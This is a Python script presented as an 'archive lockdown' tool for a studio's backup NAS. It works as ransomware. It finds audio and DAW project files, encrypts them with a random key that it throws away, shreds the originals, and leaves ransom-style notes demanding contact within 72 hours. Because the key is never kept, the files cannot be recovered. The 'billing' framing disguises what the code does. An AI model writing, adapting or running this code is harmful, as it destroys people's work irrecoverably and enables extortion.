#!/usr/bin/env python3
"""Archive lockdown for the backup NAS.

Seals finished client projects on the NAS share so they cannot be opened
from the DAW machines until the account is settled.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("lockdown")

TARGET_EXT = {".wav", ".aif", ".aiff", ".flac", ".ptx", ".als", ".rpp",
              ".logicx", ".mid", ".mp3", ".zip"}
SKIP_DIRS = {".snapshot", "@eaDir", "#recycle"}
NOTE_NAME = "READ_ME_TO_RESTORE_YOUR_SESSIONS.txt"

SEAL_SCRIPT = r"""#!/bin/bash
set -u
sealed=0
while IFS= read -r -d '' f; do
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:SEAL_KEY \
         -in "$f" -out "$f.sealed" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        sealed=$((sealed + 1))
    else
        rm -f "$f.sealed"
        echo "failed: $f" >&2
    fi
done < "$1"
echo "$sealed"
"""

NOTE = """All session files in this folder have been sealed.
Audio, project files and bounces can only be restored with the key.
Contact billing-recovery@example.org with the ID below within 72 hours.
ID: {ident}
"""


class Lockdown:
    def __init__(self, root: Path, min_size: int):
        self.root = root
        self.min_size = min_size
        self.targets = []
        self.dirs = set()

    def scan(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() not in TARGET_EXT:
                    continue
                try:
                    if path.stat().st_size < self.min_size:
                        continue
                except OSError:
                    continue
                self.targets.append(path)
                self.dirs.add(Path(dirpath))
        LOG.info("%d files in %d folders", len(self.targets), len(self.dirs))

    def seal(self):
        key = secrets.token_urlsafe(48)
        listing = tempfile.NamedTemporaryFile("wb", delete=False, suffix=".lst")
        with listing:
            for path in self.targets:
                listing.write(os.fsencode(path) + b"\0")
        script = tempfile.NamedTemporaryFile("w", delete=False, suffix=".sh")
        with script:
            script.write(SEAL_SCRIPT)
        env = dict(os.environ, SEAL_KEY=key)
        try:
            res = subprocess.run(["bash", script.name, listing.name], env=env,
                                 capture_output=True, text=True)
            LOG.info("sealed %s files", res.stdout.strip() or "0")
            for line in res.stderr.splitlines()[:20]:
                LOG.warning(line)
        finally:
            os.unlink(listing.name)
            os.unlink(script.name)
            del env["SEAL_KEY"]
        return secrets.token_hex(8)

    def leave_notes(self, ident):
        for d in self.dirs:
            try:
                (d / NOTE_NAME).write_text(NOTE.format(ident=ident))
            except OSError as exc:
                LOG.debug("note in %s failed: %s", d, exc)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default="/mnt/nas/projects", type=Path)
    ap.add_argument("--min-size", type=int, default=4096)
    ap.add_argument("--list-only", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")
    if not args.root.is_dir():
        LOG.error("%s not mounted", args.root)
        return 1
    job = Lockdown(args.root, args.min_size)
    job.scan()
    if args.list_only:
        for p in job.targets:
            print(p)
        return 0
    ident = job.seal()
    job.leave_notes(ident)
    LOG.info("done, id %s", ident)
    return 0


if __name__ == "__main__":
    sys.exit(main())
